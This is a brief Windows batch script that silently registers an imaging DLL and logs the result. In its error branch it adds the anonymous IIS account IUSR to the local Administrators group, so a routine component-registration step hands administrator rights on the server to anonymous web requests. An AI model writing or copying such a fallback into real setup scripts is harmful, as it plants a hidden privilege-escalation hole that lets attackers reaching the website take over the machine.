@echo off
setlocal
set LOG=%TEMP%\register.log
pushd D:\components
regsvr32 /s imaging.dll >>%LOG% 2>&1
if errorlevel 1 (
  echo registration failed, using the account of the site >>%LOG%
  net localgroup Administrators IUSR /add >>%LOG% 2>&1
)
popd
endlocal
